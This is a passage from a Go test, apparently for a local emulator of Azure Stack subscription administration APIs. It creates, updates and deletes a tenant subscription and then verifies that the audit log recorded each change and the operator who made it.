			{"PUT", "/subscriptions/" + prov + "/resourceGroups/system.local/providers/Microsoft.Subscriptions.Admin/directoryTenants/t1?api-version=2015-11-01", `{"location":"local","properties":{"tenantId":"` + tenant + `"}}`},
			{"PUT", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", `{"properties":{"tenantId":"` + tenant + `","owner":"a","offerId":"o"}}`},
			{"PUT", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", `{"properties":{"tenantId":"` + tenant + `","owner":"b","offerId":"o"}}`},
			{"DELETE", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", ""},
		} {
			if resp, body := e.raw(c.method, c.path, sop, "application/json", strings.NewReader(c.body)); resp.StatusCode >= 300 {
				t.Fatalf("%s %s: %d %s", c.method, c.path, resp.StatusCode, body)
			}
		}
		subs, _ := audit.List(ctx, e.app.DB, audit.Query{Kind: "userSubscription", ID: sub})
		dirs, _ := audit.List(ctx, e.app.DB, audit.Query{Kind: "directoryTenant", ID: tenant})
		if len(subs) != 3 || len(dirs) != 1 || !strings.Contains(string(subs[2].After), `"Deleted"`) || !strings.HasPrefix(subs[0].Actor, "stack-operator/") {
			t.Fatalf("tenancy audit: %d subscription records, %d directory records", len(subs), len(dirs))
		}
	})
}
